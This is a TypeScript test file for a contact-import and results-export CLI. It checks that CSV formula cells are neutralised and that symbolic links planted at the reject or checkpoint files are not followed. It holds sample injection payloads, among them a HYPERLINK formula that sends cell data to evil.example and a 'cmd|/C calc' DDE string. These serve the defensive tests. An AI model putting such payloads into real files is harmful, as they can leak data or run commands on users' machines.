// Attacks through files (issue 13, findings 7 and 11): CSV formula injection in `results export
// --format csv` and in the import reject file; a symbolic link planted at the reject file or at the
// checkpoint's temp name.
import { existsSync, lstatSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AddContactsResult, Contact } from '../src/contract/index.js';
import { ImportFileError, importContacts, type ContactSink } from '../src/import/index.js';
import { createPushReceiver } from '../src/push/receiver.js';
import { tempDir, zhichi } from './cli-helpers.js';
import { callPush } from './fixtures/push-http.js';

let tmp: ReturnType<typeof tempDir>;
beforeAll(() => {
  tmp = tempDir('zhichi-files-');
});
afterAll(() => tmp.cleanup());

/** Accepts every contact (the server side is not under test here). */
const sink: ContactSink = {
  contacts: {
    add: async (_t: string, contacts: Contact[]): Promise<AddContactsResult> => ({ successCount: contacts.length, duplicateCount: 0, failCount: 0, failList: [] }),
  },
} as ContactSink;

/** Splits CSV text (RFC 4180, quoted fields with "" escapes) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;
const HOSTILE = { taskId: '=HYPERLINK("http://evil.example/?x="&A1)', outId: '+1+cmd|/C calc!A0', intent: '-2+3', callResultName: '@SUM(A1:A9)', eventType: '=1+1' };

describe('CSV formula injection (finding 7)', () => {
  it('results export --format csv neutralises every formula cell; --no-neutralize-formulas keeps them', async () => {
    const db = join(tmp.dir, 'events.db');
    const receiver = await createPushReceiver({ secret: 'receiver-secret-0123456789', store: db });
    const push = { ...callPush('t', 'o'), ...HOSTILE, callResult: -1 };
    const r = await receiver.handle({ method: 'POST', url: '/?secret=receiver-secret-0123456789', headers: { 'content-type': 'application/json' }, body: JSON.stringify(push) });
    expect(r.status).toBe(200);
    await receiver.close();

    const out = await zhichi(['results', 'export', '--format', 'csv', '--db', db], { cwd: tmp.dir });
    expect(out.code, out.err).toBe(0);
    const [header, line] = parseCsv(out.out);
    const at = (name: string) => line![header!.indexOf(name)]!;
    for (const [k, v] of Object.entries(HOSTILE)) expect(at(k), k).toBe(`'${v}`);
    for (const c of line!) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(c, 'no cell a spreadsheet would run').not.toMatch(FORMULA);
    expect(at('callResult')).toBe('-1'); // a number is not a formula

    const raw = await zhichi(['results', 'export', '--format', 'csv', '--db', db, '--no-neutralize-formulas'], { cwd: tmp.dir });
    const [h2, l2] = parseCsv(raw.out);
    expect(l2![h2!.indexOf('taskId')]).toBe(HOSTILE.taskId);
  });

  it('the import reject file neutralises formula cells, unless neutralizeFormulas is false', async () => {
    const file = join(tmp.dir, 'hostile.csv');
    writeFileSync(file, 'outId,telephone\n"=1+1","=HYPERLINK(""http://evil"")"\n@x,-5\nok,13800000001\n');
    const s = await importContacts({ client: sink, taskId: 't', file, checkpointFile: false });
    expect(s.rejected).toBe(2);
    const rows = parseCsv(readFileSync(`${file}.rejects.csv`, 'utf8')).slice(1);
    expect(rows.map((r) => [r[2], r[3]])).toEqual([["'=1+1", `'=HYPERLINK("http://evil")`], ["'@x", "'-5"]]);
    for (const r of rows) for (const c of r) expect(c).not.toMatch(FORMULA);

    const off = await importContacts({ client: sink, taskId: 't', file, checkpointFile: false, rejectsFile: join(tmp.dir, 'raw.csv'), neutralizeFormulas: false });
    expect(off.rejected).toBe(2);
    expect(parseCsv(readFileSync(join(tmp.dir, 'raw.csv'), 'utf8'))[1]![2]).toBe('=1+1');
  });
});

describe('planted symbolic links (finding 11)', () => {
  it('the reject file is never written through a symbolic link; it is created 0600', async () => {
    const file = join(tmp.dir, 'people.csv');
    writeFileSync(file, 'outId,telephone\na,1234\nb,13800000002\n');
    const target = join(tmp.dir, 'precious.txt');
    writeFileSync(target, 'precious\n');
    symlinkSync(target, `${file}.rejects.csv`);
    await expect(importContacts({ client: sink, taskId: 't', file, checkpointFile: false })).rejects.toThrow(ImportFileError);
    await expect(importContacts({ client: sink, taskId: 't', file, checkpointFile: false })).rejects.toThrow(/symbolic link/);
    expect(readFileSync(target, 'utf8')).toBe('precious\n');
    expect(lstatSync(`${file}.rejects.csv`).isSymbolicLink()).toBe(true);

    const own = join(tmp.dir, 'own.rejects.csv');
    await importContacts({ client: sink, taskId: 't', file, checkpointFile: false, rejectsFile: own });
    expect(statSync(own).mode & 0o777).toBe(0o600);
  });

  it('the checkpoint temp file has a random name: a link planted at <path>.<pid>.tmp is not followed', async () => {
    const file = join(tmp.dir, 'cp.csv');
    writeFileSync(file, 'outId,telephone\na,13800000001\nb,1234\n');
    const checkpoint = join(tmp.dir, 'cp.checkpoint.json');
    const target = join(tmp.dir, 'victim.txt');
    writeFileSync(target, 'victim\n');
    symlinkSync(target, `${checkpoint}.${process.pid}.tmp`);
    const s = await importContacts({ client: sink, taskId: 't', file, checkpointFile: checkpoint });
    expect(s.rows).toBe(2);
    expect(readFileSync(target, 'utf8')).toBe('victim\n');
    expect(existsSync(checkpoint)).toBe(true);
    expect(lstatSync(checkpoint).isSymbolicLink()).toBe(false);
    expect(statSync(checkpoint).mode & 0o777).toBe(0o600);
    // No temp file left behind besides the planted link.
    expect(readdirSync(tmp.dir).filter((n) => n.startsWith('cp.checkpoint.json.') && n.endsWith('.tmp'))).toEqual([`cp.checkpoint.json.${process.pid}.tmp`]);
  });
});
